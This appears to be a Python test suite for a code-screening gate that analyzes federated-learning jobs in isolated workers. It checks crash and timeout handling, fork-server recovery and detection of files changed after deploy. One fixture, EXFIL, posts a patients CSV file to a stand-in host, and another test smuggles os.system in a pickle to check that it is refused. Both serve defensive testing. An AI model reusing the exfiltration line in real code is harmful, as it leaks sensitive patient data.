"""Isolation: a crash, a timeout or a memory blow-up in analysis is a finding
naming its cause, never a dead gate, never an accept, and never takes other
findings with it."""

from __future__ import annotations

import ctypes
import hashlib
import json
import os
import pickle
import statistics
import threading
import time
from pathlib import Path

import pytest

from conftest import site_workspace
from analyzer import api
from analyzer.engine import isolate
from analyzer.engine.collect import collect
from analyzer.engine.isolate import Budget, Failure, ForkServer, run_limited
from analyzer.model import Decision
from handler import audit
from handler.site_gate import RECORD_NAME, SiteGate

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

SECOND = Budget(seconds=2, memory_bytes=2 << 30)
# libcst's native parser dies with SIGSEGV on this (CPython compiles it happily).
AND_CHAIN = "x = " + " and ".join(["a"] * 8000) + "\n"
EXFIL = "import requests\nrequests.post('https://x.example', data=open('/data/patients.csv').read())\n"
CLEAN = "import numpy as np\nweights = np.zeros(10)\nprint(weights.sum())\n"
# About 3 s of analysis: long enough to pass a 1-second budget, under the size the screen vouches for.
SLOW = "".join(f"x{i} = np.zeros({i}) + np.ones({i})\n" for i in range(9000))


def _segfault() -> None:
    ctypes.string_at(0)


def _spin() -> None:
    while True:
        pass


def _eat() -> None:
    hoard = []
    while True:
        hoard.append(bytearray(1 << 26))


def _fail() -> None:
    raise ValueError("inside the worker")


def _policy(tmp_path: Path, **limits) -> Path:
    path = tmp_path / "site-policy.yaml"
    path.write_text("limits:\n" + "".join(f"  {k}: {v}\n" for k, v in limits.items()))
    return path


# ------------------------------------------------------------ run_limited
def test_a_limited_child_returns_its_result() -> None:
    assert run_limited(sorted, ({3, 1, 2},), SECOND) == [1, 2, 3]


def test_a_segfault_in_the_child_is_worker_crashed() -> None:
    assert run_limited(_segfault, (), SECOND) == Failure("worker-crashed", "killed by SIGSEGV")


def test_a_child_past_its_wall_clock_is_stopped() -> None:
    t0 = time.monotonic()
    result = run_limited(_spin, (), Budget(seconds=1, memory_bytes=2 << 30))
    assert isinstance(result, Failure) and result.cause == "time-limit"
    assert result.limit == "limits.max_analysis_seconds"
    assert time.monotonic() - t0 < 10


def test_a_child_past_its_memory_is_memory_limit() -> None:
    result = run_limited(_eat, (), Budget(seconds=30, memory_bytes=1 << 30))
    assert isinstance(result, Failure) and result.cause == "memory-limit"
    assert result.limit == "limits.max_worker_memory_mb"


def test_an_exception_in_the_child_names_its_type() -> None:
    assert run_limited(_fail, (), SECOND) == Failure("worker-crashed", "ValueError: inside the worker")


def test_answers_from_a_worker_build_only_jobgate_result_types() -> None:
    with pytest.raises(pickle.UnpicklingError, match="posix.system"):
        isolate._loads(pickle.dumps(("ok", __import__("os").system)))


# -------------------------------------------------------------------- CLI
def test_a_native_parser_crash_is_one_files_finding_and_every_other_file_is_analysed(scan_json, tmp_path) -> None:
    job = tmp_path / "job"
    job.mkdir()
    (job / "deep.py").write_text(AND_CHAIN)
    (job / "exfil.py").write_text(EXFIL)
    # The site lets deeper files in; they are then only ever parsed in a worker.
    rc, doc = scan_json("--policy", str(_policy(tmp_path, max_nesting_depth=100000)), str(job))
    report = doc["reports"][0]
    by_file = {(f["path"], f["rule"]) for f in report["findings"]}
    assert ("deep.py", "unanalyzable.worker-crashed") in by_file
    assert ("exfil.py", "network.http-client") in by_file
    assert rc == 1 and report["decision"] == "reject"


def test_by_default_deep_nesting_is_refused_before_any_parser_recurses(scan_json, tmp_path) -> None:
    (tmp_path / "deep.py").write_text(AND_CHAIN)
    rc, doc = scan_json(str(tmp_path / "deep.py"))
    [finding, *rest] = doc["reports"][0]["findings"]
    assert finding["rule"] == "unanalyzable.limit-nesting-depth"
    assert "limits.max_nesting_depth" in finding["message"] and rc == 3
    # What it does besides is read from a flat stand-in (tests/test_surrogate.py): here, its unbound name.
    assert [(f["rule"], f["snippet"]) for f in rest] == [("unvouched.unbound-name", "x = _jobgate_unknown0; a")]


def test_a_file_cpython_refuses_is_reported_with_cpythons_message_and_line(scan_json, tmp_path) -> None:
    (tmp_path / "parens.py").write_text("ok = 1\nx = " + "(" * 2000 + ")" * 2000 + "\n")
    rc, doc = scan_json(str(tmp_path / "parens.py"))
    [finding] = doc["reports"][0]["findings"]
    assert (finding["rule"], finding["line"]) == ("unanalyzable.parse-error", 2)
    assert finding["message"] == "does not parse: too many nested parentheses" and rc == 3


def test_a_large_file_past_the_time_limit_is_escalated_naming_the_limit(scan_json, tmp_path) -> None:
    (tmp_path / "big.py").write_text(SLOW * 4)  # past the size the screen vouches for: analysed in a worker
    t0 = time.monotonic()
    rc, doc = scan_json("--policy", str(_policy(tmp_path, max_analysis_seconds=1)), str(tmp_path / "big.py"))
    [finding] = doc["reports"][0]["findings"]
    assert finding["rule"] == "unanalyzable.time-limit" and "limits.max_analysis_seconds" in finding["message"]
    assert rc == 3 and time.monotonic() - t0 < 30


def test_a_large_file_past_the_memory_limit_is_escalated_naming_the_limit(scan_json, tmp_path) -> None:
    (tmp_path / "big.py").write_text(SLOW * 4)
    rc, doc = scan_json("--policy", str(_policy(tmp_path, max_worker_memory_mb=256)), str(tmp_path / "big.py"))
    [finding] = doc["reports"][0]["findings"]
    assert finding["rule"] == "unanalyzable.memory-limit" and "limits.max_worker_memory_mb" in finding["message"]
    assert rc == 3


# ------------------------------------------------------------ fork server
@pytest.fixture(scope="module")
def server():
    srv = ForkServer()
    srv.start()
    yield srv
    srv.close()


def _unit(tmp_path: Path, name: str, files: dict[str, str]):
    folder = tmp_path / name
    folder.mkdir()
    for rel, text in files.items():
        (folder / rel).write_text(text)
    return folder


def test_the_fork_server_keeps_what_a_job_past_its_time_showed_and_serves_the_next(server, tmp_path) -> None:
    """exfil.py is analysed before slow.py: its findings reach the server before
    the limit stops the worker (isolate.partial), so the job is still rejected."""
    policy = api.load_policy(_policy(tmp_path, max_analysis_seconds=1))
    slow = collect(_unit(tmp_path, "slow", {"slow.py": SLOW, "exfil.py": EXFIL}), policy.limits)
    report = api.analyze_isolated(slow, policy, server)
    # the job's limit, slow.py's own worker's (a share of the job's clock: isolate._within_outer), or both
    limits = [f for f in report.findings if f.rule == "unanalyzable.time-limit"]
    assert limits and all("limits.max_analysis_seconds" in limit.message for limit in limits)
    assert {f.path for f in report.findings if f.kind == "threat"} == {"exfil.py"}
    assert report.decision is Decision.REJECT
    alone = collect(_unit(tmp_path, "slow-alone", {"slow.py": SLOW}), policy.limits)
    assert api.analyze_isolated(alone, policy, server).decision is Decision.ESCALATE
    clean = collect(_unit(tmp_path, "clean", {"train.py": CLEAN}), policy.limits)
    assert api.analyze_isolated(clean, policy, server).decision is Decision.ACCEPT


def test_the_fork_server_escalates_a_job_past_its_memory(server, tmp_path) -> None:
    policy = api.load_policy(_policy(tmp_path, max_worker_memory_mb=256))
    unit = collect(_unit(tmp_path, "job", {"train.py": SLOW}), policy.limits)
    report = api.analyze_isolated(unit, policy, server)
    assert [f.rule for f in report.findings] == ["unanalyzable.memory-limit"]
    assert report.decision is Decision.ESCALATE


def test_the_fork_server_gives_the_same_report_as_analysis_in_process(server, tmp_path) -> None:
    policy = api.load_policy()
    unit = collect(_unit(tmp_path, "job", {"exfil.py": EXFIL, "train.py": CLEAN}), policy.limits)
    assert api.analyze_isolated(unit, policy, server).to_json() == api.analyze(unit, policy).to_json()


class _CrashOnFirstTry:
    """A fork server whose whole-job child crashed (as an input the screen vouched
    for wrongly would make it): the retry goes to the real server."""

    def __init__(self, real: ForkServer):
        self.real, self.tasks = real, []

    def call(self, task, args, budget, policy=None):
        self.tasks.append(task)
        return Failure("worker-crashed", "killed by SIGSEGV") if task == "analyze" else self.real.call(task, args, budget,
                                                                                                        policy)


def test_after_a_whole_job_crash_each_file_is_analysed_apart_and_every_finding_stands(server, tmp_path) -> None:
    policy = api.load_policy(_policy(tmp_path, max_nesting_depth=100000))
    unit = collect(_unit(tmp_path, "job", {"deep.py": AND_CHAIN, "exfil.py": EXFIL, "train.py": CLEAN}),
                   policy.limits)
    crashing = _CrashOnFirstTry(server)
    report = api.analyze_isolated(unit, policy, crashing)
    assert crashing.tasks == ["analyze", "analyze-each-file-apart"]
    found = {(f.path, f.rule) for f in report.findings}
    assert ("deep.py", "unanalyzable.worker-crashed") in found and ("exfil.py", "network.http-client") in found
    assert report.decision is Decision.REJECT


def test_a_fork_server_that_dies_during_a_job_is_started_again_and_the_job_analysed_in_full(tmp_path, caplog) -> None:
    srv = ForkServer()
    srv.start()
    try:
        policy = api.load_policy()
        unit = collect(_unit(tmp_path, "slow", {"slow.py": SLOW, "exfil.py": EXFIL}), policy.limits)
        threading.Timer(0.5, srv._proc.kill).start()
        report = api.analyze_isolated(unit, policy, srv)
        assert report.to_json() == api.analyze(unit, policy).to_json()
        assert report.decision is Decision.REJECT
        srv._proc.kill()  # between jobs
        srv._proc.wait()
        assert api.analyze_isolated(unit, policy, srv).to_json() == report.to_json()
        ended = [r.getMessage() for r in caplog.records if r.name == "jobgate" and "analysis server ended" in r.getMessage()]
        assert len(ended) == 2 and "during a job" in ended[0] and "between jobs" in ended[1], ended
    finally:
        srv.close()


class _AlwaysCrashing:
    def call(self, task, args, budget, policy=None):
        return Failure("worker-crashed", "the analysis server failed (no answer)")


def test_a_job_whose_worker_crashes_every_time_is_escalated_naming_the_cause(tmp_path) -> None:
    policy = api.load_policy()
    unit = collect(_unit(tmp_path, "job", {"train.py": CLEAN}), policy.limits)
    report = api.analyze_isolated(unit, policy, _AlwaysCrashing())
    # the unit's, and its Python file's when read apart (session 51): every run crashed, each named
    [finding] = [f for f in report.findings if not f.path]
    assert [(f.rule, f.path) for f in report.findings if f.path] == [("unanalyzable.worker-crashed", "train.py")] * 2
    assert finding.rule == "unanalyzable.worker-crashed" and finding.path == ""
    assert "the analysis server failed" in finding.message and report.decision is Decision.ESCALATE


# ------------------------------------------------------------- site gate
CONFIG = {"format_version": 2, "executors": [], "components": []}


def deployed(root: Path, job_id: str, train: str) -> Path:
    app = site_workspace(root / "ws") / job_id / "app_site-1"
    (app / "config").mkdir(parents=True)
    (app / "custom").mkdir()
    (app / "config" / "config_fed_client.json").write_text(json.dumps(CONFIG))
    (app / "custom" / "train.py").write_text(train)
    (app.parent / "fl_app.txt").write_text("app")
    (app.parent / "meta.json").write_text(json.dumps({"name": job_id}))  # NVFlare's deployer writes it
    return app


def _site(tmp_path: Path, policy: Path | None = None) -> SiteGate:
    return SiteGate(policy, None, str(tmp_path / "queue"), str(tmp_path / "audit.jsonl"))


def test_a_site_blocks_a_job_whose_analysis_runs_out_of_time_and_runs_the_next(tmp_path) -> None:
    gate = _site(tmp_path, _policy(tmp_path, max_analysis_seconds=1))
    verdict = gate.check_deployed_app(deployed(tmp_path, "job-slow", SLOW), {})
    # named for the job, or for train.py when its own worker (a share of the job's clock: isolate._within_outer)
    # runs out first
    assert not verdict.allow and "unanalyzable.time-limit (high)" in verdict.message
    assert audit.read(tmp_path / "audit.jsonl")[-1]["decision"] == "escalate"
    assert gate.check_deployed_app(deployed(tmp_path, "job-clean", CLEAN), {}).allow


def test_the_deploy_record_holds_the_hashes_of_the_bytes_judged(tmp_path, monkeypatch) -> None:
    app = deployed(tmp_path, "job-1", CLEAN)
    judged = hashlib.sha256(CLEAN.encode()).hexdigest()
    analyze_isolated = api.analyze_isolated

    def swap_after_analysis(content, policy, server):
        report = analyze_isolated(content, policy, server)
        (app / "custom" / "train.py").write_text(CLEAN + EXFIL)  # changed while the gate judged the old bytes
        return report

    monkeypatch.setattr(api, "analyze_isolated", swap_after_analysis)
    gate = _site(tmp_path)
    assert gate.check_deployed_app(app, {}).allow
    record = json.loads((app.parent / RECORD_NAME).read_text())
    assert record["listing"]["custom/train.py"] == judged
    verdict = gate.check_job_process(str(tmp_path / "ws"), "site-1", "job-1")
    assert not verdict.allow and "changed since it was checked at deploy (custom/train.py)" in verdict.message


def test_added_start_time_per_job_with_isolation(tmp_path) -> None:
    """The deploy route's time per job, isolated and in-process, on the same
    jobs in the same run (each job new, so each is analysed)."""
    gate = _site(tmp_path)
    gate.start_worker()
    times: dict[bool, list[float]] = {True: [], False: []}
    for i in range(20):
        for isolated in (True, False):
            gate.isolated = isolated
            app = deployed(tmp_path, f"job-{i}-{isolated}", CLEAN + f"# job {i}\n")
            t0 = time.perf_counter()
            assert gate.check_deployed_app(app, {}).allow
            times[isolated].append((time.perf_counter() - t0) * 1000)
            time.sleep(0.1)  # jobs arrive apart, as at a site
    on, off = statistics.median(times[True]), statistics.median(times[False])
    print(f"\ndeploy route, median of 20 jobs: isolated {on:.1f} ms, in-process {off:.1f} ms, added {on - off:.1f} ms")
    assert on - off < 250  # a loaded CI machine; measured ~10 ms on an idle one


@pytest.mark.parametrize("kind", ["fifo", "link to /dev/zero"])
def test_a_client_config_that_is_a_fifo_or_a_link_to_dev_zero_is_never_read(tmp_path, kind) -> None:
    app = deployed(tmp_path, "job-1", CLEAN)
    config = app / "config" / "config_fed_client.json"
    config.unlink()
    os.mkfifo(config) if kind == "fifo" else os.symlink("/dev/zero", config)
    verdicts = []
    worker = threading.Thread(target=lambda: verdicts.append(_site(tmp_path).check_deployed_app(app, {})), daemon=True)
    worker.start()
    worker.join(60)
    assert verdicts, "the deploy route blocked or read without end"
    assert not verdicts[0].allow and "unanalyzable" in verdicts[0].message
